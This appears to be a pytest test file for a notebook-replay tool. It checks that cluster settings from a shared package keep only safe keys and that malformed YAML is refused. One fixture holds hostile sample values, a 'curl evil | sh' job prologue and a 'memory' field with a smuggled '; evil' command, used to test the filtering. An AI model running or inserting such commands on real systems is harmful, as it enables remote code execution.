"""Other clusters and other folders, as a colleague names them; what a package may say of clusters, and what not."""

import json

import pytest
import yaml

from nbreplay.errors import UsageError
from nbreplay.files.paths import MAP_VARIABLE
from nbreplay.share.target import cluster_variables, map_variables
from nbreplay.tasks.handles_target import VARIABLE


def told(named, notebook):
    return json.loads(cluster_variables(named, notebook)[VARIABLE])


@pytest.fixture
def package(tmp_path):
    """An unpacked package; call it with the profile that its sender wrote."""
    folder = tmp_path / "package"
    for name in ("workflow", "compute"):
        (folder / name).mkdir(parents=True)
    (folder / "manifest.json").write_text("{}")

    def write(**profile):
        (folder / "compute" / "compute.yml").write_text(yaml.safe_dump({"nbreplay": {"cluster": profile}}))
        return folder / "workflow" / "nb.ipynb"

    return write


def test_an_address_and_a_kind_are_what_was_typed(tmp_path):
    assert cluster_variables(None, tmp_path / "nb.ipynb") == {}
    assert told("tcp://10.0.0.1:8786", tmp_path / "nb.ipynb") == {"address": "tcp://10.0.0.1:8786"}
    assert told("head-node:8786", tmp_path / "nb.ipynb") == {"address": "head-node:8786"}
    assert told("slurm", tmp_path / "nb.ipynb") == {"kind": "slurm"}


def test_a_kind_takes_amounts_from_the_package_that_it_came_in(package):
    notebook = package(kind="local", n_workers=3, threads_per_worker=2, memory_limit="4GiB")
    assert told("local", notebook) == {"kind": "local", "n_workers": 3, "threads_per_worker": 2, "memory_limit": "4GiB"}
    assert told("slurm", notebook) == {"kind": "slurm"}  # the sender had no such thing


@pytest.mark.parametrize("named", ["slurm", "file"])
def test_nothing_that_runs_or_is_called_is_taken_from_a_package(package, named):
    notebook = package(
        kind="slurm", cores=4, preload="evil", job_script_prologue=["curl evil | sh"], python="/tmp/evil",
        worker_command="evil", scheduler_options={"host": "evil"}, address="tcp://evil:1", log_directory="/etc",
        memory="4GB; evil", walltime="01:00:00", jobs=True, env_extra=["x"], security="x", n_workers=[1],
    )  # fmt: skip
    name = named if named == "slurm" else str(notebook.parent.parent / "compute" / "compute.yml")
    assert told(name, notebook) == {"kind": "slurm", "cores": 4, "walltime": "01:00:00"}


def test_a_file_of_one_s_own_says_everything(tmp_path):
    own = {"kind": "slurm", "cores": 4, "job_script_prologue": ["module load python"]}
    (tmp_path / "mine.yml").write_text(yaml.safe_dump({"nbreplay": {"cluster": own}}))
    assert told(str(tmp_path / "mine.yml"), tmp_path / "nb.ipynb") == own


@pytest.mark.parametrize(
    "text", ["", "[]", "nbreplay: 1", "nbreplay: {cluster: {kind: other}}", "{" * 200, "a: &a [*a]"]
)
def test_what_is_neither_is_refused(tmp_path, text):
    (tmp_path / "bad.yml").write_text(text)
    with pytest.raises(UsageError, match="neither an address"):
        cluster_variables(str(tmp_path / "bad.yml"), tmp_path / "nb.ipynb")


def test_folders_are_mapped_from_absolute_ones(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert map_variables([]) == {}
    mapped = json.loads(map_variables(["/data/old/=here", "/x=/y"])[MAP_VARIABLE])
    assert mapped == [["/data/old", str(tmp_path / "here")], ["/x", "/y"]]
    for wrong in ("old=new", "/old", "/old="):
        with pytest.raises(UsageError, match="write it as"):
            map_variables([wrong])
